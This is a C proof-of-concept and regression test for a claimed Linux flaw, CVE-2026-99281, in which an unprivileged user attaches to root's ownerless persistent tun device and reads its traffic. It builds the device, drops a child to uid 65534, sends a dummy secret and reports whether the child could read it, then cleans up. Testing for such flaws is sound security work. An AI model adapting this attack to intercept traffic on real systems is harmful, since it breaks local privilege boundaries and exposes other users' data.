// SPDX-License-Identifier: MIT
// CVE-2026-99281: a tun device that root made without naming an owner can be taken over by any
// local user, who then reads, and writes, the traffic that the host sends through it.
//
// Root makes the persistent device, gives it an address and later sends a packet with a secret
// into its network. A child without any privilege (uid 65534) tries to attach to the device and to
// read that packet. Nothing leaves the machine and the device is deleted at the end.
//
// Exit 0 = the child was refused (fixed), 1 = it attached (the flaw), 2 = cannot tell.
// Needs root and the module tun.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/if_tun.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

enum { FIXED = 0, FLAW = 1, UNKNOWN = 2 };
enum { NOBODY = 65534, TUN_MAJOR = 10, TUN_MINOR = 200, WAIT_MS = 1000, PACKETS_MAX = 64 };

static const char DEVICE[] = "suture0";
static const char SECRET[] = "root-only: the password is swordfish";
static char node[64];

static int cannot_tell(const char *what)
{
    printf("cannot tell: %s: %s\n", what, strerror(errno));
    return UNKNOWN;
}

// Opens the tun driver through a node of our own that everyone may open, as /dev/net/tun is on
// every distribution (0666), and attaches to DEVICE, which is made if it does not exist yet.
static int attach(int *descriptor)
{
    struct ifreq request = {.ifr_flags = IFF_TUN | IFF_NO_PI};
    *descriptor = open(node, O_RDWR | O_CLOEXEC);
    if (*descriptor < 0)
        return -1;
    strcpy(request.ifr_name, DEVICE);
    return ioctl(*descriptor, TUNSETIFF, &request);
}

// Gives DEVICE the address 10.99.0.1/24 and sets it up.
static int configure(int inet)
{
    struct ifreq request = {0};
    struct sockaddr_in *address = (struct sockaddr_in *)&request.ifr_addr;
    strcpy(request.ifr_name, DEVICE);
    address->sin_family = AF_INET;
    address->sin_addr.s_addr = inet_addr("10.99.0.1");
    if (ioctl(inet, SIOCSIFADDR, &request) < 0)
        return -1;
    address->sin_addr.s_addr = inet_addr("255.255.255.0");
    if (ioctl(inet, SIOCSIFNETMASK, &request) < 0)
        return -1;
    request.ifr_flags = IFF_UP | IFF_RUNNING;
    return ioctl(inet, SIOCSIFFLAGS, &request);
}

// The attacker: no uid, no groups, no capabilities. Tells through `ready` that it has tried to
// attach, then waits for the secret. The exit status is the verdict.
static int attacker(int ready)
{
    char packet[2048];
    int tun;
    if (setgroups(0, NULL) < 0 || setgid(NOBODY) < 0 || setuid(NOBODY) < 0)
        return cannot_tell("dropping privileges");
    if (attach(&tun) < 0) {
        if (errno != EPERM)
            return cannot_tell("attaching as nobody");
        printf("fixed: uid %d may not attach to root's tun device %s (%s)\n", NOBODY, DEVICE, strerror(errno));
        return FIXED;
    }
    if (write(ready, "!", 1) != 1)
        return cannot_tell("pipe");
    for (int packets = 0; packets < PACKETS_MAX; packets++) {
        struct pollfd wait = {.fd = tun, .events = POLLIN};
        ssize_t length = poll(&wait, 1, WAIT_MS) > 0 ? read(tun, packet, sizeof packet) : -1;
        if (length < 0)
            break;
        char *found = memmem(packet, (size_t)length, SECRET, sizeof SECRET - 1);
        if (found) {
            printf("FLAW: uid %d attached to root's tun device %s and read: \"%.*s\"\n",
                   NOBODY, DEVICE, (int)(sizeof SECRET - 1), found);
            return FLAW;
        }
    }
    printf("FLAW: uid %d attached to root's tun device %s\n", NOBODY, DEVICE);
    return FLAW;
}

// Runs the attacker and, once it has attached, sends the secret.
static int verdict(int inet)
{
    int ready[2], status;
    char byte;
    if (pipe(ready) < 0)
        return cannot_tell("pipe");
    fflush(stdout);
    pid_t child = fork();
    if (child < 0)
        return cannot_tell("fork");
    if (child == 0) {
        close(ready[0]);
        int result = attacker(ready[1]);
        fflush(stdout);
        _exit(result);
    }
    close(ready[1]);
    if (read(ready[0], &byte, 1) == 1) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = inet_addr("10.99.0.2")};
        if (sendto(inet, SECRET, sizeof SECRET - 1, 0, (struct sockaddr *)&to, sizeof to) < 0)
            cannot_tell("sending the secret");
    }
    close(ready[0]);
    if (waitpid(child, &status, 0) != child || !WIFEXITED(status))
        return cannot_tell("the attacker did not end by itself");
    return WEXITSTATUS(status);
}

int main(void)
{
    int tun = -1, inet = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), result;
    if (inet < 0)
        return cannot_tell("socket");
    // A fresh name, never an existing file: mkdtemp, then the node inside it.
    char directory[] = "/tmp/suture-XXXXXX";
    if (!mkdtemp(directory) || chmod(directory, 0755) < 0)
        return cannot_tell("mkdtemp");
    snprintf(node, sizeof node, "%s/tun", directory);

    umask(0);
    if (mknod(node, S_IFCHR | 0666, makedev(TUN_MAJOR, TUN_MINOR)) < 0)
        result = cannot_tell("mknod (are we root?)");
    else if (attach(&tun) < 0)
        result = cannot_tell("making a tun device (is the module tun loaded?)");
    else if (ioctl(tun, TUNSETPERSIST, 1) < 0)
        result = cannot_tell("TUNSETPERSIST");
    else {
        // Root's program lets go of the device, as "ip tuntap add" does.
        close(tun);
        result = configure(inet) < 0 ? cannot_tell("address of the device") : verdict(inet);
        if (attach(&tun) == 0)
            ioctl(tun, TUNSETPERSIST, 0);
    }
    if (tun >= 0)
        close(tun);
    unlink(node);
    rmdir(directory);
    return result;
}
